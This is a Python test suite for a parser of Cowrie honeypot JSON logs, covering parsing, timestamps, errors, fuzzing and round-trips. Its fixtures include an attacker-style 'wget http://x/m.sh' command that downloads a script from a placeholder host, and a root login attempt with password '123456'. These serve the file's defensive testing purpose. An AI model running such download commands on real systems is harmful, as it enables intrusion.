import json
from datetime import datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from cowrieqa import loggen
from cowrieqa.schema import (
    BadTimestamp, CowrieEvent, EmptyCommand, EventError, EventKind, MalformedJson, MissingField,
    extract_command, format_timestamp, parse_event, parse_timestamp, serialize_event,
)


def test_command_event():
    ev = parse_event('{"eventid":"cowrie.command.input","timestamp":"2019-05-01T10:00:00.123456Z","session":"a1",'
                     '"src_ip":"10.0.0.9","message":"CMD: wget http://x/m.sh","input":"wget http://x/m.sh"}')
    assert ev.input == "wget http://x/m.sh"
    assert ev.kind is EventKind.COMMAND_INPUT and ev.is_command
    assert ev.timestamp == datetime(2019, 5, 1, 10, 0, 0, 123456, tzinfo=timezone.utc)


def test_login_event():
    ev = parse_event('{"eventid":"cowrie.login.failed","timestamp":"2020-02-01T00:00:00Z","username":"root",'
                     '"password":"123456","session":"b2","src_ip":"1.2.3.4","message":"login attempt"}')
    assert (ev.username, ev.password) == ("root", "123456")


def test_missing_eventid():
    with pytest.raises(MissingField) as info:
        parse_event('{"timestamp":"2019-05-01T10:00:00Z"}')
    assert info.value.field == "eventid"


@pytest.mark.parametrize("line, exc", [
    ("not json", MalformedJson),
    (b"\xff\xfe", MalformedJson),
    ("[1,2]", MalformedJson),
    ('{"eventid":"x","timestamp":"yesterday"}', BadTimestamp),
    ('{"eventid":5,"timestamp":"2019-05-01T10:00:00Z"}', MalformedJson),
    ('{"eventid":"x"}', MissingField),
])
def test_structured_errors(line, exc):
    with pytest.raises(exc):
        parse_event(line)


def test_unknown_eventid_preserved():
    ev = parse_event('{"eventid":"cowrie.weird.new","timestamp":"2019-05-01T10:00:00Z","ttylog":"x"}')
    assert ev.kind is EventKind.OTHER
    assert '"ttylog":"x"' in serialize_event(ev)


def test_canonical_timestamp():
    ev = parse_event('{"eventid":"cowrie.session.connect","timestamp":"2019-05-01T10:00:00Z"}')
    assert json.loads(serialize_event(ev))["timestamp"] == "2019-05-01T10:00:00.000000Z"
    assert parse_timestamp("2019-05-01T10:00:00+02:00") == datetime(2019, 5, 1, 8, tzinfo=timezone.utc)
    assert format_timestamp(datetime(2019, 5, 1, 8, tzinfo=timezone(timedelta(hours=-1)))) == "2019-05-01T09:00:00.000000Z"


def _cmd(**kw):
    base = dict(eventid="cowrie.command.input", timestamp=datetime(2019, 5, 1, tzinfo=timezone.utc))
    base.update(kw)
    return CowrieEvent(**base)


def test_extract_command():
    assert extract_command(_cmd(input="wget http://x/m.sh")) == "wget http://x/m.sh"
    assert extract_command(_cmd(message="CMD: uname -a")) == "uname -a"
    with pytest.raises(EmptyCommand):
        extract_command(_cmd(message="CMD: "))
    with pytest.raises(EmptyCommand):
        extract_command(_cmd(message="uname -a"))
    with pytest.raises(EventError):
        extract_command(CowrieEvent("cowrie.login.failed", datetime(2019, 5, 1, tzinfo=timezone.utc)))


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=200))
def test_parse_never_crashes_on_bytes(raw):
    try:
        parse_event(raw)
    except EventError:
        pass


@settings(max_examples=200, deadline=None)
@given(st.dictionaries(st.sampled_from(["eventid", "timestamp", "session", "input", "message", "x"]),
                       st.one_of(st.text(max_size=10), st.integers(), st.none()), max_size=6))
def test_parse_never_crashes_on_objects(obj):
    try:
        parse_event(json.dumps(obj))
    except EventError:
        pass


@settings(max_examples=50, deadline=None)
@given(st.integers(min_value=0, max_value=999))
def test_round_trip_generated(index):
    for ev in loggen.generate_session(loggen.GeneratorConfig(seed=3), index):
        assert parse_event(serialize_event(ev)) == ev
        if ev.is_command:
            cmd = extract_command(ev)
            assert extract_command(_cmd(input=cmd)) == cmd
